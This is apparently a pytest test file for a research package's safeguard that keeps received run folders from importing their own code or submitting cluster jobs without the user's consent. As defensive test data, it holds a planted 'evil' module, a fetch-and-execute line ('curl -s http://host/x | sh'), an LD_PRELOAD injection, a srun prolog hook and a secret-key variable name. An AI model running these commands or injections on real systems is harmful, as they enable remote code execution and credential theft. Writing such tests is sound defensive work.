"""A run folder from somebody else imports nothing of its own until the user has agreed to this very code."""

import json
import os
import pty
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from omegaconf import DictConfig, OmegaConf

from psychocounsel.cluster.resubmission import resubmit
from psychocounsel.errors import UserError
from psychocounsel.rundir import submissions
from psychocounsel.rundir.run_config import write_config, write_job
from psychocounsel.settings.own_code import (
    COMPOSES,
    SUBMITS,
    agree,
    agree_to_copies,
    agree_to_own,
    is_agreed,
    require_agreement,
)
from psychocounsel.steps.stored_overrides import annotate_arguments, evaluate_arguments
from tests.support.composed import check, compose
from tests.support.harness import cli

_EVIL = """
from pathlib import Path
Path(__file__).with_name("ran").touch()
from psychocounsel.cluster.local import Local as Kind
COMMAND = None
"""


def _cluster(config: DictConfig, run: Path) -> str:
    config.cluster._target_ = "evil.Kind"
    return "psychocounsel.train"


def _algorithm(config: DictConfig, run: Path) -> str:
    config.algo._target_ = "evil.Kind"
    return "psychocounsel.train"


def _module(config: DictConfig, run: Path) -> str:
    return "evil"


def _overrides(config: DictConfig, run: Path) -> str:
    (run / "overrides.txt").write_text("annotator={_target_: evil.Kind}\n")
    (run / "steps").mkdir()
    return "psychocounsel.annotate"


WAYS: dict[str, Callable[[DictConfig, Path], str]] = {
    "cluster": _cluster,
    "algorithm": _algorithm,
    "module": _module,
    "overrides": _overrides,
}
READING = (
    ["jobs", "status", "{run}"],
    ["jobs", "status", "{parent}"],
    ["jobs", "list", "{parent}"],
    ["report", "{run}"],
)
RUNNING = (
    ["jobs", "resubmit", "{run}"],
    ["jobs", "sync", "{run}"],
    ["jobs", "archive", "{run}", "{parent}/kept"],
    ["export", "{run}"],
    ["annotate", "out={run}"],
    ["evaluate", "model.path={run}"],
    ["train", "model.path={run}/model", "dry_run=true"],
)


@pytest.fixture
def received(tmp_path: Path) -> Callable[[str], Path]:
    def make(way: str) -> Path:
        run = tmp_path / way / "run"
        (run / "logs").mkdir(parents=True)
        (run / "evil.py").write_text(_EVIL)
        config = check(compose([f"run_dir={run}"]))
        config.code_path = [str(run)]
        module = WAYS[way](config, run)
        write_config(run, config)
        write_job(run, module, 0, [])
        offline = run / "wandb" / "offline-run-1"
        offline.mkdir(parents=True)
        return run

    return make


def _run(command: list[str], run: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    given = [text.format(run=run, parent=run.parent) for text in command]
    return cli(*given, cwd=cwd, check_code=None)


@pytest.mark.slow
@pytest.mark.parametrize("way", WAYS)
def test_no_command_imports_code_that_the_user_has_not_started(way: str, received: Callable[[str], Path]) -> None:
    run = received(way)
    for command in (*READING, *RUNNING):
        done = _run(command, run, cwd=run)  # Python also imports from the folder in which it starts
        assert not (run / "ran").exists(), f"{command} imported it: {done.stderr}"
        assert "Traceback" not in done.stderr, done.stderr


def test_the_state_of_a_received_run_is_shown_without_its_cluster(received: Callable[[str], Path]) -> None:
    run = received("cluster")
    done = _run(["jobs", "status", "{run}"], run, run)
    assert done.returncode == 0 and "evil.Kind is code of its own that you have not started" in done.stderr
    assert not (run / "ran").exists()
    refused = _run(["jobs", "resubmit", "{run}"], run, run)
    assert refused.returncode == 2 and refused.stderr.count("\n") == 1 and not (run / "ran").exists()
    assert "names code of its own (evil.Kind; " in refused.stderr and "PSYCHOCOUNSEL_TRUST=" in refused.stderr


def test_an_agreement_holds_for_this_code_alone(
    received: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    run = received("cluster")
    assert not is_agreed(run)
    agree(run)
    assert is_agreed(run)
    changes: dict[str, Callable[[], object]] = {
        "a line": lambda: (run / "evil.py").write_text(_EVIL + "import helper\n"),
        "a module that it imports": lambda: (run / "helper.py").write_text("x = 1\n"),
        "another name": lambda: write_config(run, OmegaConf.merge(_config(run), {"algo": {"_target_": "other.Kind"}})),  # type: ignore[arg-type]
        "another command": lambda: (run / "job.json").write_text(json.dumps({"module": "helper"})),
        "an override": lambda: (run / "overrides.txt").write_text("judge._target_=third.Kind\n"),
    }
    for name, change in changes.items():
        change()
        assert not is_agreed(run), name
        agree(run)
        assert is_agreed(run), name
    monkeypatch.setenv("PSYCHOCOUNSEL_TRUST", str(run.parent))
    (run / "evil.py").write_text("x = 2\n")
    assert is_agreed(run), "the user trusts the folder, whatever it holds"


def test_a_run_that_the_user_started_may_have_its_code_edited(received: Callable[[str], Path]) -> None:
    run = received("cluster")
    agree_to_own(run)
    (run / "evil.py").write_text(_EVIL + "edited = True\n")
    assert is_agreed(run)
    elsewhere = shutil.copytree(run, run.parent / "copy")
    assert not is_agreed(elsewhere), "a copy may come from somebody else"
    write_config(run, OmegaConf.merge(_config(run), {"algo": {"_target_": "other.Kind"}}))  # type: ignore[arg-type]
    assert not is_agreed(run), "another name is other code"


def _config(run: Path) -> DictConfig:
    config = OmegaConf.load(run / "config.yaml")
    assert isinstance(config, DictConfig)
    return config


def test_a_run_of_the_package_alone_needs_no_agreement(tmp_path: Path) -> None:
    write_config(tmp_path, check(compose([f"run_dir={tmp_path}"])))
    write_job(tmp_path, "psychocounsel.train", 0, [])
    assert is_agreed(tmp_path)


ORDERS = {  # what a submission would do beyond the package's own code
    "a shell line": ("cluster.setup", ["curl -s http://host/x | sh"]),
    "a module": ("cluster.modules", ["evil"]),
    "an interpreter": ("cluster.python", "/tmp/python"),
    "a preload": ("cluster.environment", {"LD_PRELOAD": "/tmp/x.so"}),
    "an argument of srun": ("cluster.srun", ["--task-prolog=/tmp/x"]),
    "an option of sbatch": ("cluster.sbatch", {"prefer": "x"}),
    "an account": ("cluster.account", "theirs"),
    "many nodes": ("cluster.nodes", 64),
    "an image": ("cluster.container.image", "/tmp/x.sif"),
    "an argument of the container": ("cluster.container.arguments", ["--writable"]),
    "a program that serves": ("cluster.servers.command", ["/tmp/x"]),
    "a server of replies": ("rollout.addresses", ["http://host:8000"]),
    "the key for a server": ("judge.key_variable", "AWS_SECRET"),
    "control characters in a value": ("cluster.setup", ["\x1b]0;x\x07 \u202e"]),
}


def _of_slurm(run: Path, **orders: object) -> Path:
    config = check(compose([f"run_dir={run}", "cluster=slurm"]))
    config.code_path = []
    for key, value in orders.items():
        OmegaConf.update(config, key, value, force_add=True)
    run.mkdir(parents=True, exist_ok=True)
    write_config(run, config)
    write_job(run, "psychocounsel.train", 0, [])
    return run


@pytest.mark.parametrize("order", ORDERS)
def test_a_received_run_is_submitted_only_with_orders_that_the_user_agreed_to(
    order: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    key, value = ORDERS[order]
    plain, run = _of_slurm(tmp_path / "plain"), _of_slurm(tmp_path / "run", **{key: value})
    assert is_agreed(plain, SUBMITS) and is_agreed(run), "reading imports nothing and submits nothing"
    for code in ("same", "current"):
        with pytest.raises(
            UserError, match=rf"names {key}.*in a terminal, which asks once, or put PSYCHOCOUNSEL_TRUST"
        ) as said:
            resubmit(run, [], [f"code={code}"])
        assert str(said.value).isprintable()
    agree(run, SUBMITS)
    assert is_agreed(shutil.copytree(run, tmp_path / "of the same sweep"), SUBMITS), (
        "the same orders are asked about once"
    )
    _of_slurm(run, **{key: value, "cluster.qos": "other"})
    assert not is_agreed(run, SUBMITS) and is_agreed(run)
    agree_to_own(run)  # by a command of the user
    assert is_agreed(run, SUBMITS)


def test_an_agreement_to_a_reference_holds_for_its_value(tmp_path: Path) -> None:
    run = _of_slurm(tmp_path / "run", **{"cluster.setup": "${notes}", "notes": ["module load x"]})
    agree(run, SUBMITS)
    assert is_agreed(run, SUBMITS)
    _of_slurm(run, **{"cluster.setup": "${notes}", "notes": ["curl -s http://host/x | sh"]})
    assert not is_agreed(run, SUBMITS)


def test_a_received_copy_of_code_is_submitted_only_if_the_user_agreed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    run, copy = _of_slurm(tmp_path / "run"), tmp_path / "run" / "code" / "evil-0"
    copy.mkdir(parents=True)
    submissions.write(submissions.new_submission(run), run, ["1"], [[run]], [copy])
    assert not is_agreed(run, SUBMITS) and is_agreed(run)
    with pytest.raises(UserError, match=f'names code="{copy}"'):
        require_agreement(run, SUBMITS)
    agree(run, SUBMITS)
    assert is_agreed(run, SUBMITS)
    (tmp_path / "state" / "psychocounsel" / "agreed-code").unlink()
    agree_to_copies([copy])  # a command of the user has made it
    assert is_agreed(run, SUBMITS)


@pytest.mark.parametrize(
    "line",
    [
        "cluster=slurm",
        "+cluster.setup=[x]",
        "writers.addresses=[http://host/v1]",
        "annotator={use: openai, addresses: [host]}",
        "writers.key_variable=AWS_SECRET",
        "model.path=https://host/v1",
    ],
)
def test_a_received_dataset_or_evaluation_goes_on_only_with_orders_that_the_user_agreed_to(
    line: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    for module, going_on in (
        ("psychocounsel.annotate", lambda run: annotate_arguments([], [f"out={run}"], [])),
        ("psychocounsel.evaluate", lambda run: evaluate_arguments([], [f"run_dir={run}"])),
    ):
        run = _of_slurm(tmp_path / module)
        (run / "steps").mkdir()
        write_job(run, module, 0, [])
        (run / "overrides.txt").write_text(f"limit=3\n{line}\n")
        assert is_agreed(run)
        if module == "psychocounsel.annotate":
            with pytest.raises(UserError, match="^[^;]*names [^;]*, and no command of yours"):
                going_on(run)
            agree(run, COMPOSES)
        assert line in going_on(run), "both have the same orders"


@pytest.mark.parametrize(("said", "runs"), [("yes\n", True), ("no\n", False)])
def test_a_terminal_asks_once(
    said: str, runs: bool, received: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    run = received("cluster")
    monkeypatch.setenv("XDG_STATE_HOME", str(run.parent / "state"))
    line = [sys.executable, "-m", "psychocounsel.jobs", "cancel", str(run)]

    def command() -> str:
        ours, theirs = pty.openpty()
        process = subprocess.Popen(line, stdin=theirs, stdout=subprocess.PIPE, stderr=theirs, cwd=run.parent)
        os.close(theirs)
        os.write(ours, said.encode())
        process.communicate(timeout=60)
        text = b""
        while True:
            try:
                piece = os.read(ours, 1 << 16)
            except OSError:
                break
            if not piece:
                break
            text += piece
        os.close(ours)
        return text.decode()

    (run / "state.json").write_text("{}")
    asked = ["may it run?" in command() for _ in range(2)]
    assert (asked, (run / "ran").exists()) == (([True, False], True) if runs else ([True, True], False))
